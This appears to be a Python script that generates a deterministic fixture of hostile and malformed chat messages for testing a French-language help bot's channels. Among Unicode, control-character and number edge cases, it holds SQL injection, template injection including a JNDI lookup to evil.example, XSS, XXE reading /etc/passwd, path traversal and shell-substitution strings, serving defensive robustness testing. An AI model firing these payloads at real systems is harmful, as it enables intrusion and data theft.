"""Build tests/hostile/messages.json: the hostile and odd messages every channel must survive.

    .venv/bin/python tests/hostile/generate.py          # rewrites messages.json (deterministic)
    .venv/bin/python tests/hostile/generate.py --check  # exit 1 when messages.json is out of date

messages.json is a JSON list of {"text": ..., "tag": ...}, written with ensure_ascii=True so every
byte survives any editor: control characters, null bytes and lone surrogates are \\uXXXX escapes.
"tag" names the family a message comes from (for failure messages and for the transports that cannot
carry some families, e.g. lone surrogates are not UTF-8 and never reach an SMS gateway or Telegram).

The first part is hand-written (each line says why it is there), the second part is drawn from a
seeded random generator, so the file is the same on every machine and every run.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import unicodedata
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUTPUT = HERE / "messages.json"
SEED = 20261123
RANDOM_COUNT = 180


def _hand_written() -> list[tuple[str, str]]:
    items: list[tuple[str, str]] = []

    def add(tag: str, *texts: str) -> None:
        items.extend((tag, text) for text in texts)

    # -- empty and blank -------------------------------------------------------------------------
    add("blank", "", " ", "  ", "\t", "\n", "\r\n", "\n\n\n", " \t \n ", "\u00a0", "\u202f", "\u2009", "\u3000",
        "\u2028", "\u2029", "\u200b", "\u200b\u200b\u200b", "\ufeff", "\u2060", "\u180e", "\u115f", "\u3164",
        "\u0085", "\x0b\x0c", " " * 5000)
    # -- length ----------------------------------------------------------------------------------
    add("long", "a" * 10_000, "manger " * 1_430, "é" * 10_000, "😀" * 10_000, "j'ai 34 ans " * 900,
        "x" * 4096, "x" * 4097, "y" * 2000, "y" * 2001, "A" * 160, "A" * 161, "€" * 80, "€" * 81,
        ("Bonjour, je cherche de l'aide pour payer mon loyer. " * 200).strip(),
        "\n".join(["ligne"] * 3000), "1" * 10_000, "9" * 400, "-" + "9" * 400,
        "🏳️‍🌈" * 2000, "\u0301" * 10_000)
    # -- one sample per Unicode plane (assigned and unassigned code points) ------------------------
    add("plane",
        "\u0041\u00e9\u0416\u05d0\u0627\u0905\u0e01\u10d0\u1100\u3042\u4e2d\uac00\uff21",  # plane 0 scripts
        "\U00010000\U00010300\U00010a40\U0001d11e\U0001d400\U0001f600\U0001fae0",  # plane 1 (SMP)
        "\U00020000\U0002a6d6\U0002f800",  # plane 2 (SIP, CJK extension B)
        "\U00030000\U0003134a",  # plane 3 (TIP)
        "\U00040000", "\U00050000", "\U00060000", "\U00070000", "\U00080000", "\U00090000", "\U000a0000",
        "\U000b0000", "\U000c0000", "\U000d0000",  # planes 4-13: unassigned
        "\U000e0001\U000e0041\U000e007f", "\U000e0100",  # plane 14: tags, variation selector
        "\U000f0000\U000ffffd", "\U00100000\U0010ffff",  # planes 15-16: private use
        "\ue000\uf8ff", "\ufffd", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe",
        "manger \U000e0041\U000e0042", "34\U000f0000")
    # -- right-to-left and bidi controls ---------------------------------------------------------
    add("bidi", "\u202e", "\u202eregnam", "j'ai \u202e43\u202c ans", "\u202d34\u202c", "\u2066manger\u2069",
        "\u2067٣٤\u2069", "\u2068x\u2069", "\u200f34\u200e", "\u061c٣٥", "abc\u202efdp.exe",
        "\u202a\u202b\u202c\u202d\u202e" * 50, "oui\u202e", "\u202enon")
    # -- zero-width characters and joiners -------------------------------------------------------
    add("zero-width", "3\u200b4", "man\u200bger", "man\u200dger", "man\u200cger", "o\u200bu\u200bi",
        "\u200d", "\u200c", "\u200d" * 100, "می\u200cخواهم", "👨\u200d👩\u200d👧\u200d👦", "\u2060oui\u2060",
        "\ufeffbonjour", "1\u00ad2", "ré\u034fsultats", "\u200b/start", "o\u200dui")
    # -- control characters ----------------------------------------------------------------------
    add("control", *(chr(code) for code in range(0x00, 0x20)), "\x7f",
        *(chr(code) for code in range(0x80, 0xa0, 4)),
        "\x1b[31mrouge\x1b[0m", "\x1b]0;title\x07", "\x08\x08\x08oui", "oui\rnon", "34\x00",
        "man\x00ger", "\x00" * 100, "a\x00b\x00c", "\x07\x07\x07", "\x1a", "\x04", "\x0c34",
        "tab\tseparated\tvalues", "\r", "\r" * 50)
    # -- emoji sequences -------------------------------------------------------------------------
    add("emoji", "😀", "👍🏿", "👩🏽\u200d💻", "🇫🇷", "🇫🇷🇺🇦🇦🇫🇸🇾",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "1️⃣", "3️⃣4️⃣", "#️⃣", "❤️", "❤\ufe0e", "🧑\u200d🤝\u200d🧑", "😀" * 100, "🍞🥖🥐", "🏠❓", "🆘",
        "j'ai 😀 34 ans", "🔟", "💶 500", "☎️ 115", "\U0001f3fb", "🫠🫡🫥", "🏳️\u200d⚧️", "👁️\u200d🗨️")
    # -- markup Telegram would parse, if asked ---------------------------------------------------
    add("markup", "<b>gras</b>", "<i>", "</b>", "<a href=\"tg://user?id=1\">moi</a>",
        "<a href='javascript:alert(1)'>x</a>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "<pre><code class=\"language-python\">x</code></pre>",
        "<tg-spoiler>x</tg-spoiler>", "<blockquote expandable>x", "&amp;", "&lt;", "&", "&#0;", "&#x110000;",
        "<", ">", "<<>>", "*gras*", "_italique_", "__souligné__", "~barré~", "||spoiler||", "`code`",
        "```\ncode\n```", "```python\nprint(1)\n```", "[lien](http://example.org)", "[x](tg://user?id=1)",
        "\\", "\\\\", "_*[]()~`>#+-=|{}.!", "*" * 1000, "_" * 1000, "[" * 500, "> citation", "# titre",
        "**gras** et __souligné__", "\\*pas gras\\*", "<b><i>mal</b></i>", "<b>" * 200,
        "\"\"\"", "'''", "\"'", "</Message></Response><Response><Message>pwned",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "]]>", "<![CDATA[x]]>", "<!-- x -->", "<Message>", "<Redirect>http://evil.example</Redirect>",
        "{\"text\": \"x\"}", "[1, 2, 3]", "null", "true", "{}", "[]")
    # -- injection ---------------------------------------------------------------------------------
    add("sql", "'; DROP TABLE conversations; --", "Robert'); DROP TABLE students;--", "1 OR 1=1", "' OR '1'='1",
        "\" OR \"\"=\"", "1; SELECT * FROM processed_messages", "' UNION SELECT state FROM conversations --",
        "admin'--", "'; UPDATE counsellors SET password_hash='x' --", "1' AND SLEEP(5)#",
        "'; PRAGMA writable_schema=1; --",
        "$$; DROP TABLE usage_counters; $$", "\\'; DROP TABLE x; --", "%' --", "';", "--", "/* */", "0x27")
    add("template", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in range(99999999) %}x{% endfor %}",
        "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ self }}", "${jndi:ldap://evil.example/a}",
        "{{ lipsum.__globals__ }}", "{%raw%}", "{#", "@(1+2)", "*{7*7}", "[[${7*7}]]")
    add("format", "{0}", "{}", "{1}", "{0!r}", "{0:>1000000}", "{__class__}", "{self}", "{code}", "{n}", "{days}",
        "{need}", "{names}", "{phone}", "{keyword}", "{amount}", "{min}", "{max}", "{aid}", "{reasons}", "{how}",
        "{time}", "{day}", "{distance}", "{number}", "{label}", "{missing}", "{more}", "{stop}",
        "%s", "%d", "%n", "%x %x %x %x", "%(name)s", "%s" * 100, "%%", "%", "%c%c%c", "%99999999s",
        "{{}}", "}{", "{", "}", "{0[0]}", "{.__init__.__globals__}", "$(id)", "`id`", "$HOME", "%PATH%")
    # -- numbers -----------------------------------------------------------------------------------
    add("number", "1e309", "-1e309", "1e308", "1E5", "2e3", "1e-5", "inf", "-inf", "Infinity", "nan", "NaN",
        "-0", "+0", "0.0", "-0.0", "00", "000", "0000000034", "٣٥", "۳۵", "٣٥ سنة", "من ۳۵ سالمه", "३५", "๓๕",
        "𝟑𝟓", "３４", "⅓", "½", "¾ ans", "3,5", "3.5", "34,0", "1.000.000", "1 000 000 000 000 000",
        "999999999999999999999999", "-5", "-34 ans", "0x1F", "0b101", "1_000", "10^100", "2**64",
        "9" * 1000, "\U00010a40", "\u19da", "²", "³⁴", "①", "⑳", "⒈", "Ⅻ", "ⅻ", "\U0001d7ce\U0001d7cf",
        "1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17", "1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17",
        "1 " * 2000, "1," * 2000, "111 " * 500, "1.1.1.1", "1/2", "34-35", "34 ou 35", "entre 30 et 40",
        "3e4", "12e", "e12", "1k", "2K€", "1M", "1 million", "un milliard", "mille ans",
        "vingt-trois milliards", "trente-quatre", "quatre-vingt-dix-neuf", "cent vingt et un",
        "zéro", "moins trois", "0,001", "12,345.67", "1.234,56 €", "£50", "$50", "50 USD", "€€€", "€")
    add("age", "j'ai 200 ans", "j'ai -3 ans", "0 ans", "121", "120", "150 ans", "j'ai 34 ans et 3 mois",
        "34.5", "34 ans 1/2", "né en 1990", "1990", "2030", "j'ai 1e3 ans", "age: 34; DROP TABLE", "٢٠٠",
        "j'ai 34 ans et 2 enfants de 3 et 5 ans", "34ans", "trente quatre ans", "I am 34", "tengo 34 años")
    add("money", "1000000000 €", "-500 €", "1e6", "999999999999€", "0 €", "0,00 €", "1 200 € par an",
        "12000 par an", "500/mois", "500 euros par semaine", "RSA", "je ne touche rien", "pas de revenu",
        "1200 + 300", "1200€ et 300€", "environ 1000", "entre 800 et 900", "~900", "900 €€", "€ 900", "900€/mois",
        "1 000,50", "1.000,50", "1,000.50", "100000000000000000000000000000000000000 €")
    # -- null bytes and surrogates (the latter only where the transport can carry them) -----------
    add("null", "\x00", "\x00\x00", "oui\x00", "\x00oui", "34\x00ans", "\x00" * 1000)
    add("surrogate", "\ud800", "\udfff", "\udc00\ud800", "a\ud83dz", "\ud83d", "\ude00", "34\udc80",
        "oui\ud800non", "\ud800" * 100, "manger\udfff")
    # -- mixed scripts and look-alikes -------------------------------------------------------------
    add("script", "mаnger", "mаngеr", "Ｂｏｎｊｏｕｒ", "ｍａｎｇｅｒ", "logement 住房 سكن жильё", "ΜΑΝΓΚΕΡ",
        "אני רעב", "ฉันหิว", "मुझे भूख लगी है", "배고파요", "お腹が空いた", "მშია", "Քաղցած եմ", "ርቦኛል", "ᏙᎯ",
        "я голоден", "мені потрібне житло", "mi-e foame", "tengo hambre", "I need food", "من گرسنه هستم",
        "زه وږی یم", "أنا جائع", "انا جوعان",
        "Z̵̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌̕̚ͅ͏algo", "e" + "\u0301" * 1000,
        "ﷺ", "﷽", "ǅ", "ß", "ẞ", "İstanbul", "ı", "ﬁn de mois", "Ⓜanger", "🅼🅰🅽🅶🅴🆁", "𝖒𝖆𝖓𝖌𝖊𝖗",
        "m a n g e r", "M-A-N-G-E-R", "MANGER!!!", "mangerrrrrr", "mnager", "manger manger manger manger")
    # -- commands, keywords and words of the menus -------------------------------------------------
    add("command", "/start", "/start@autre_bot", "/start " + "x" * 200, "/oubli", "/aide extra", "/",
        "//", "/inconnu", "/start\x00", "STOP", "stop sms", "Stop!", "SUITE", "suite suite", "AIDE!!!",
        "menu", "RETOUR", "recommencer", "langue", "oubli", "code", "résultats", "résultats?", "0", "1", "2",
        "9", "10", "99", "-1", "1.", "1)", "#1", "n°1", "English", "العربية", "دری", "پښتو", "Українська",
        "ROMÂNĂ", "français", "9 langue", "tous mes droits", "je ne sais pas", "je préfère ne pas répondre",
        "oui non", "ni oui ni non", "peut-être", "???", "...", "!!!", "?", "oui", "non", "yes", "نعم", "так",
        "je dors dehors", "je vais me tuer", "il me frappe", "j'ai faim", "SOS")
    # -- paths, URLs, personal data ----------------------------------------------------------------
    add("path", "../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "http://evil.example/?q=<x>",
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "tg://resolve?domain=x",
        "\\\\server\\share", "~/.ssh/id_rsa", "/dev/zero", "NUL", "CON", "%00", "%2e%2e%2f", "%ff%fe")
    add("personal", "mon numéro 06 12 34 56 78", "+33612345678", "jean.dupont@example.org",
        "NIR 1 85 05 78 006 084 36", "IBAN FR76 3000 6000 0112 3456 7890 189", "je m'appelle Jean Dupont",
        "j'habite 4 rue des Lilas 44000 Nantes")
    # -- patterns that could make a regular expression backtrack -----------------------------------
    add("backtrack", "a" * 5000 + "!", "(" * 2000, ")" * 2000, "1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 x",
        "1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1,", "000 000 000 000 000 000 000 000 000 000 000 x",
        "ans " * 2000, "e" * 3000 + "1", "1e" * 2000, "k" * 2000, "€ " * 2000, "manger" + " " * 5000 + "x",
        "é" * 1000 + "\u0301" * 1000)
    return items


def _random_items(rng: random.Random) -> list[tuple[str, str]]:
    """Random strings from every corner of Unicode, mixed with words and numbers the engine reads."""
    words = ["manger", "loyer", "34", "ans", "oui", "non", "je", "ne", "sais", "pas", "€", "0", "Bellevue",
             "enfant", "3 et 7", "retour", "STOP", "{0}", "%s", "<b>", "'", "\"", ";", "--", "1e309", "٣٥"]
    ranges = [(0x20, 0x7e), (0xa0, 0x24f), (0x300, 0x36f), (0x370, 0x52f), (0x590, 0x6ff), (0x900, 0xdff),
              (0x1100, 0x11ff), (0x2000, 0x206f), (0x2190, 0x2bff), (0x3000, 0x30ff), (0x4e00, 0x4eff),
              (0xac00, 0xacff), (0xe000, 0xe0ff), (0xfb00, 0xfffd), (0x10000, 0x1034f), (0x1d400, 0x1d7ff),
              (0x1f300, 0x1faff), (0x20000, 0x200ff), (0xe0000, 0xe007f), (0xf0000, 0xf00ff), (0x0, 0x1f)]
    items = []
    for index in range(RANDOM_COUNT):
        kind = index % 4
        if kind == 0:  # random code points, any plane
            length = rng.choice([1, 2, 5, 20, 100, 700])
            text = "".join(chr(rng.randint(*rng.choice(ranges))) for _ in range(length))
        elif kind == 1:  # words and numbers glued by odd characters
            glue = rng.choice(["", " ", "\u200b", "\u202e", "\x00", "\n", "\u00a0", "😀", "\u0301", "\t"])
            text = glue.join(rng.choice(words) for _ in range(rng.randint(1, 8)))
        elif kind == 2:  # a plausible answer with noise inserted at random places
            base = list(rng.choice(["j'ai 34 ans", "je loue", "1 200 €", "manger", "3 et 7 ans", "Bellevue",
                                    "non merci", "tous mes droits", "je ne sais pas", "44100"]))
            for _ in range(rng.randint(1, 4)):
                base.insert(rng.randint(0, len(base)), chr(rng.randint(*rng.choice(ranges))))
            text = "".join(base)
        else:  # random bytes read as Latin-1 or as (lossy) UTF-8
            raw = bytes(rng.randint(0, 255) for _ in range(rng.choice([1, 8, 64, 300])))
            text = raw.decode("latin-1") if rng.random() < 0.5 else raw.decode("utf-8", "replace")
        # Surrogate code points cannot come out of the ranges above: keep the families separate.
        assert not any(0xD800 <= ord(c) <= 0xDFFF for c in text)
        items.append((f"random-{kind}", text))
    return items


def build() -> list[dict[str, str]]:
    items = _hand_written() + _random_items(random.Random(SEED))
    seen: set[str] = set()
    unique = []
    for tag, text in items:
        if text in seen:
            continue
        seen.add(text)
        unique.append({"tag": tag, "text": text})
    return unique


def render(messages: list[dict[str, str]]) -> str:
    return json.dumps(messages, ensure_ascii=True, indent=0) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--check", action="store_true", help="exit 1 if messages.json is not up to date")
    args = parser.parse_args(argv)
    content = render(build())
    if args.check:
        current = OUTPUT.read_text(encoding="ascii") if OUTPUT.exists() else ""
        if current != content:
            print("tests/hostile/messages.json is out of date: run tests/hostile/generate.py", file=sys.stderr)
            return 1
        return 0
    OUTPUT.write_text(content, encoding="ascii")
    messages = json.loads(content)
    planes = sorted({ord(c) >> 16 for m in messages for c in m["text"]})
    categories = sorted({unicodedata.category(c) for m in messages for c in m["text"]})
    print(f"{len(messages)} messages, planes {planes}, {len(categories)} Unicode categories -> {OUTPUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
